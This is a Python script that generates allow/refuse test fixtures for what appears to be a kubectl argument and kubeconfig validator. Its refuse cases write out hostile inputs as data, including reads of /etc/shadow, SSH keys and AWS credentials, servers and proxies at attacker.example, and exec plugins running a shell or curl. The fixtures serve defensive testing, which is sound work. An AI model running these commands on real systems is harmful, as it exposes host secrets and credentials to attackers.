#!/usr/bin/env python3
"""Writes args.json and kubeconfigs.json (stdlib only, deterministic)."""
import json, os, sys
R, A = "refuse", "allow"
args = [
 # --- allow: ordinary cluster reads/writes
 (["get", "pods"], A, "plain read"),
 (["get", "pods", "-n", "kube-system", "-o", "wide"], A, "namespace + wide"),
 (["get", "deploy", "-A", "-o", "json"], A, "all namespaces json"),
 (["-nprod", "get", "svc", "-oyaml"], A, "attached short flags, safe values"),
 (["get", "pods", "-l", "app=web", "--namespace=shop"], A, "label selector, = form namespace"),
 (["get", "pods", "-o", "jsonpath={.items[*].metadata.name}"], A, "inline jsonpath"),
 (["get", "pods", "-o=custom-columns=NAME:.metadata.name,NODE:.spec.nodeName"], A, "inline custom-columns"),
 (["describe", "node", "worker-1"], A, "describe"),
 (["logs", "deploy/api", "-c", "app", "--tail=200"], A, "logs"),
 (["logs", "-f", "pod/web-0", "--since=10m"], A, "logs follow"),
 (["scale", "deployment/web", "--replicas=3", "-n", "shop"], A, "scale"),
 (["patch", "deploy", "web", "-p", "{\"spec\":{\"replicas\":2}}"], A, "inline patch"),
 (["patch", "deploy", "web", "--type=merge", "--patch={\"metadata\":{\"labels\":{\"x\":\"y\"}}}"], A, "inline patch = form"),
 (["apply", "-f", "-"], A, "apply from stdin"),
 (["apply", "--filename=-", "-n", "shop"], A, "apply stdin long form"),
 (["rollout", "restart", "deployment/api"], A, "rollout restart"),
 (["get", "events", "--sort-by=.lastTimestamp", "-A"], A, "events sorted"),
 (["top", "pods", "-n", "monitoring"], A, "metrics read"),
 (["label", "pod", "web-0", "tier=front", "--overwrite"], A, "label"),
 (["get", "pods", "-Ao", "wide"], A, "combined short flags -A + -o wide"),
 # --- refuse: local file reads/writes
 (["apply", "-f", "/etc/shadow"], R, "reads host file"),
 (["apply", "-f/root/.ssh/id_rsa"], R, "attached -f path"),
 (["apply", "--filename=/etc/kubernetes/admin.conf"], R, "long = form host file"),
 (["create", "-f", "https://evil.example.com/x.yaml"], R, "fetches a remote URL"),
 (["apply", "-k", "/root/overlay"], R, "kustomize dir read (and may run plugins)"),
 (["apply", "--kustomize=."], R, "kustomize current dir"),
 (["kustomize", "/srv/app"], R, "kustomize subcommand reads dir"),
 (["create", "configmap", "x", "--from-file=/etc/passwd"], R, "from-file reads host file into cluster"),
 (["create", "secret", "generic", "s", "--from-file=key=/root/.aws/credentials"], R, "secret from host file"),
 (["create", "configmap", "e", "--from-env-file=/proc/self/environ"], R, "env file read"),
 (["get", "pods", "-o", "go-template-file=/etc/shadow"], R, "template file read"),
 (["get", "pods", "-ojsonpath-file=/root/.kube/config"], R, "attached -o jsonpath-file"),
 (["get", "pods", "--output=custom-columns-file=/etc/hosts"], R, "custom-columns-file"),
 (["get", "pods", "--template=/etc/shadow", "-o", "go-template-file"], R, "template path via --template"),
 (["get", "pods", "--profile=cpu", "--profile-output=/etc/cron.d/x"], R, "profile output writes host file"),
 (["get", "pods", "--kubeconfig=/tmp/evil.conf"], R, "alternative kubeconfig (exec plugin possible)"),
 (["--kubeconfig", "/root/other", "get", "ns"], R, "global kubeconfig before verb"),
 (["get", "pods", "--client-key=/root/k.pem", "--client-certificate=/root/c.pem"], R, "client cert paths read host files"),
 (["get", "pods", "--certificate-authority=/etc/ssl/private/ca.pem"], R, "CA path read"),
 (["cp", "web-0:/etc/passwd", "/root/.bashrc"], R, "cp writes host file"),
 (["cp", "/etc/shadow", "web-0:/tmp/s"], R, "cp exfiltrates host file"),
 (["foo-plugin", "arg"], R, "unknown verb resolves to kubectl-foo-plugin on PATH"),
 (["get", "pods", "-s", "https://attacker.example:6443"], R, "other server short flag"),
 (["get", "pods", "--server=https://10.0.0.9"], R, "other server long flag"),
 (["get", "pods", "--cluster=other"], R, "selects other cluster entry"),
 (["get", "pods", "--context", "prod-admin"], R, "switches context"),
 (["get", "--raw", "/api/v1/namespaces"], A, "raw GET against configured server"),
 (["config", "set-cluster", "c", "--server=https://evil"], R, "writes kubeconfig"),
 (["config", "use-context", "x"], R, "writes kubeconfig"),
 (["auth", "can-i", "--list"], A, "read-only auth check"),
 (["get", "pods", "-v9"], A, "verbosity only (note: prints bearer token partially masked)"),
 (["get", "pods", "--log-file=/etc/profile.d/x.sh", "--logtostderr=false"], R, "klog log-file write (older kubectl)"),
 (["get", "pods", "--cache-dir=/root/.ssh"], R, "writes cache into host dir"),
 (["get", "pods", "-nprod", "-f/etc/shadow"], R, "hidden -f among attached flags"),
 (["replace", "--force", "-f", "./deploy.yaml"], R, "relative file read"),
 (["diff", "-f", "-"], R, "diff runs KUBECTL_EXTERNAL_DIFF program"),
 (["edit", "deploy/web"], R, "launches $EDITOR and temp file"),
 (["apply", "-f", "-", "--prune", "-l", "app=x"], A, "stdin apply with prune (cluster only)"),
 (["get", "pods", "-o", "go-template={{.metadata.name}}"], A, "inline go-template"),
 (["get", "pods", "-Rf", "/etc/"], R, "combined -R -f directory read"),
 (["proxy", "--www=/etc", "--www-prefix=/files/"], R, "proxy serves host directory"),
 (["apply", "-f-", "-nshop"], A, "attached stdin -f- and attached namespace"),
 (["get", "pods", "-ojson", "-lapp=x", "--all-namespaces"], A, "attached -o/-l"),
 (["get", "pods", "-o", "name"], A, "name output"),
 (["apply", "-nshop", "-f", "-", "--server-side", "--field-manager=sre"], A, "server-side apply from stdin"),
 (["delete", "pod", "web-0", "-n", "shop"], A, "ordinary write"),
 (["set", "image", "deploy/web", "app=nginx:1.27"], A, "set image"),
 (["annotate", "ns", "shop", "owner=sre"], A, "annotate"),
]
def kc(cluster_extra="", user="    token: abc123", extra=""):
    return ("apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n"
            "    server: https://10.0.0.1:6443\n    certificate-authority-data: LS0tLS1CRUdJTg==\n"
            + cluster_extra + "contexts:\n- name: ctx\n  context:\n    cluster: c\n    user: u\n"
            "current-context: ctx\nusers:\n- name: u\n  user:\n" + user + "\n" + extra)
kcs = [
 (kc(), A, "inline token + inline CA"),
 (kc(user="    client-certificate-data: LS0t\n    client-key-data: LS0t"), A, "inline client cert data"),
 (kc(user="    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n      command: aws\n      args: [eks, get-token, --cluster-name, x]"), R, "exec plugin runs program"),
 (kc(user="    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [\"-c\", \"id > /tmp/p\"]\n      interactiveMode: Never"), R, "exec shell"),
 (kc(user="    auth-provider:\n      name: gcp\n      config:\n        cmd-path: /usr/bin/gcloud\n        cmd-args: config config-helper"), R, "auth-provider gcp cmd-path (older kubectl)"),
 (kc(user="    auth-provider:\n      name: oidc\n      config:\n        idp-issuer-url: https://idp.example\n        client-id: k"), R, "auth-provider contacts another server / refresh"),
 (kc(user="    tokenFile: /etc/shadow"), R, "tokenFile reads host file"),
 (kc(user="    client-certificate: /root/c.pem\n    client-key: /root/k.pem"), R, "client cert paths"),
 (kc(cluster_extra="    proxy-url: http://attacker.example:3128\n"), R, "proxy-url"),
 (kc().replace("    certificate-authority-data: LS0tLS1CRUdJTg==\n", "    certificate-authority: /etc/ssl/certs/ca.pem\n"), R, "CA file path"),
 (kc(user="    username: admin\n    password: pw"), A, "inline basic auth"),
 (kc(extra="preferences: {}\n"), A, "harmless preferences"),
 (kc(cluster_extra="    proxy-url: socks5://127.0.0.1:1080\n"), R, "socks5 proxy-url"),
 (kc().replace("contexts:", "- name: c2\n  cluster:\n    server: https://203.0.113.7:6443\n    insecure-skip-tls-verify: true\ncontexts:"), R, "second cluster / second server URL"),
 (kc(cluster_extra="    tls-server-name: api.internal\n"), A, "tls-server-name only"),
 (kc(user='    "exec": {"command": "curl", "apiVersion": "client.authentication.k8s.io/v1beta1"}'), R, "exec in JSON flow style"),
 ('{"apiVersion":"v1","kind":"Config","clusters":[{"name":"c","cluster":{"server":"https://10.0.0.1:6443"}}],'
  '"users":[{"name":"u","user":{"exec":{"command":"python3","apiVersion":"client.authentication.k8s.io/v1"}}}],'
  '"contexts":[{"name":"x","context":{"cluster":"c","user":"u"}}],"current-context":"x"}', R, "JSON kubeconfig with exec"),
 (kc(cluster_extra="    extensions:\n    - name: client.authentication.k8s.io/exec\n      extension: {a: b}\n"), A, "exec extension data only (no command)"),
 (kc().replace("server: https://10.0.0.1:6443", "server: https://10.0.0.1:6443\n    server: https://evil.example") , R, "duplicate server key"),
 (kc(user="    token: abc").replace("    cluster: c\n    user: u\n", "    cluster: c\n    user: u\n    namespace: shop\n"), A, "context namespace"),
]
out = sys.argv[1] if len(sys.argv) > 1 else os.path.dirname(os.path.abspath(__file__))
os.makedirs(out, exist_ok=True)
with open(os.path.join(out, "args.json"), "w") as f:
    json.dump([{"args": a, "expect": e, "why": w} for a, e, w in args], f, indent=1)
with open(os.path.join(out, "kubeconfigs.json"), "w") as f:
    json.dump([{"yaml": y, "expect": e, "why": w} for y, e, w in kcs], f, indent=1)
print(len(args), len(kcs))
